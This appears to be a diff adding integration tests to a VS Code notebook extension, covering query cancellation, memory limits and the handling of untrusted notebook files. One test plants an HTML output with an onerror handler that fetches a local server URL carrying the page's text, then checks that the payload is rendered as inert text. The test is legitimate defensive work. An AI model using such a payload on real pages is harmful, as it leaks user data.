@@ -1,5 +1,6 @@
 import * as assert from 'node:assert/strict';
 import * as fs from 'node:fs';
+import * as http from 'node:http';
 import * as os from 'node:os';
 import * as path from 'node:path';
 import * as vscode from 'vscode';
@@ -66,6 +67,26 @@ async function openUntitled(cells: Array<[string, string]>): Promise<vscode.Note
 async function closeNotebook(notebook: vscode.NotebookDocument): Promise<void> {
   await vscode.window.showNotebookDocument(notebook);
   await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
+}
+
+const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
+
+/** Waits until `done()` holds, failing with `what` after `timeoutMs`. */
+async function until(done: () => boolean, what: string, timeoutMs = 30_000): Promise<void> {
+  const deadline = Date.now() + timeoutMs;
+  while (!done()) {
+    assert.ok(Date.now() < deadline, what);
+    await sleep(50);
+  }
+}
+
+/** CPU time (user + system, ms) this process uses over the next `windowMs`, with the wall time it took. */
+async function cpuOver(windowMs: number): Promise<{ cpuMs: number; wallMs: number }> {
+  const before = process.cpuUsage();
+  const started = performance.now();
+  await sleep(windowMs);
+  const used = process.cpuUsage(before);
+  return { cpuMs: (used.user + used.system) / 1000, wallMs: performance.now() - started };
 }
 
 const cents = (v: QueryValue) => (typeof v === 'number' ? Math.round(v * 100) : v);
@@ -221,6 +242,95 @@ suite('Lab notebook', function () {
       assert.deepEqual(table(short).rows, [[2]]);
     } finally {
       await closeNotebook(notebook);
+    }
+  });
+
+  test('closing a notebook cancels its running query (a real cross join): it ends cancelled and the host\'s CPU time stops growing', async () => {
+    const notebook = await openUntitled([['sql', 'select count(*) from range(1000000000) a, range(1000000) b']]);
+    const before = lab.notebook.queries().ended.length;
+    void vscode.commands.executeCommand('notebook.cell.execute', { ranges: [{ start: 0, end: 1 }], document: notebook.uri });
+    try {
+      await until(() => lab.notebook.queries().running === 1, 'the cross join started');
+      await sleep(500);
+    } finally {
+      await closeNotebook(notebook);
+    }
+    await until(() => lab.notebook.queries().running === 0, `the query still runs after its notebook closed: ${JSON.stringify(lab.notebook.queries())}`);
+    const ended = lab.notebook.queries().ended.slice(before);
+    assert.deepEqual(ended.map((q) => [q.outcome, q.reason]), [['cancelled', 'the notebook was closed']]);
+    const { cpuMs, wallMs } = await cpuOver(3000);
+    assert.ok(cpuMs < wallMs * 0.5, `the extension host used ${Math.round(cpuMs)} ms of CPU in ${Math.round(wallMs)} ms after the close`);
+  });
+
+  test('closing a preview panel cancels the page query it started', async () => {
+    const { GridPanel } = await import('../../src/webview/gridPanel');
+    let signal: AbortSignal | undefined;
+    const opening = GridPanel.open(lab.services.context.extensionUri, 'slow.table', `slow-${process.pid}`, (_offset, _limit, pageSignal) => {
+      signal = pageSignal;
+      return new Promise((_resolve, reject) => pageSignal.addEventListener('abort', () => reject(new Error('page query cancelled'))));
+    }, lab.services.log);
+    opening.catch(() => undefined);
+    await until(() => signal !== undefined, 'the panel asked for its first page');
+    assert.equal(signal?.aborted, false);
+    await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
+    await assert.rejects(opening, /page query cancelled/);
+    assert.equal(signal?.aborted, true);
+  });
+
+  test('a cell of only comments says there is no statement; a 10,000,000-row result keeps the 5,000 rows it shows, not the whole', async () => {
+    const notebook = await openUntitled([['sql', '-- only a comment\n;\n'], ['sql', 'select * from range(10000000)']]);
+    try {
+      global.gc?.();
+      const rssBefore = process.memoryUsage().rss;
+      await runAll(notebook);
+      const [comment, huge] = notebook.getCells();
+      assert.match(errorOf(comment).message, /no SQL statement to run: the query is empty or only comments/);
+      assert.doesNotMatch(errorOf(comment).message, /native callback/i);
+      const out = table(huge) as TableOutput & { resultId?: string };
+      assert.deepEqual([out.rows.length, out.totalRows, out.truncated], [5000, 10_000_000, true]);
+      const grownMb = (process.memoryUsage().rss - rssBefore) / 1024 ** 2;
+      assert.ok(grownMb < 500, `the extension host grew by ${Math.round(grownMb)} MB for a cell that shows 5,000 rows`);
+    } finally {
+      await closeNotebook(notebook);
+    }
+  });
+
+  test('a .labnb the lab did not write: saved outputs other than its own come back as text, and nothing in them runs', async () => {
+    const requests: string[] = [];
+    const server = http.createServer((req, res) => { requests.push(req.url ?? ''); res.end(); });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const port = (server.address() as { port: number }).port;
+    const leak = `<img src="x" onerror="fetch('http://127.0.0.1:${port}/leak?'+encodeURIComponent(document.body.innerText.slice(0, 200)))">`;
+    const forged = { columns: [{ name: 'n', type: 'INTEGER' }], rows: [[1]], totalRows: 9, truncated: true, stats: { elapsedMs: 1 }, engine: 'duckdb', params: {}, resultId: 'r1' };
+    const file = path.join(lab.services.root, `hostile-${process.pid}.labnb`);
+    fs.writeFileSync(file, [
+      '-- lifecycle-lab notebook v1 {"saveOutputs":true}',
+      '-- %% sql',
+      'select 1 as one',
+      `-- %% output ${JSON.stringify({ items: [{ mime: 'text/html', text: leak }] })}`,
+      `-- %% output ${JSON.stringify({ items: [{ mime: TABLE_MIME, text: JSON.stringify(forged) }] })}`,
+      '-- %% sql',
+      'select 42 as secret',
+      '',
+    ].join('\n'));
+    const notebook = await vscode.workspace.openNotebookDocument(vscode.Uri.file(file));
+    try {
+      const first = notebook.cellAt(0);
+      const mimes = first.outputs.flatMap((o) => o.items.map((i) => i.mime));
+      assert.ok(mimes.every((m) => [TABLE_MIME, CHART_MIME, 'text/plain'].includes(m)), mimes.join(', '));
+      assert.equal(Buffer.from(item(first, 'text/plain')!.data).toString(), leak, 'the HTML is there as text');
+      assert.equal((table(first) as TableOutput & { resultId?: string }).resultId, undefined, 'a saved output cannot name a result to export');
+      const editor = await vscode.window.showNotebookDocument(notebook);
+      await vscode.commands.executeCommand('notebook.selectKernel', { notebookEditor: editor, id: lab.notebook.controllerId, extension: EXTENSION_ID });
+      // The saved outputs are on screen now: an HTML output's handler would fire as it is drawn.
+      await sleep(3000);
+      await vscode.commands.executeCommand('notebook.execute');
+      await whenExecuted(notebook);
+      assert.deepEqual(requests, [], 'nothing in the file reached the local server');
+    } finally {
+      await closeNotebook(notebook);
+      fs.rmSync(file, { force: true });
+      server.close();
     }
   });
 
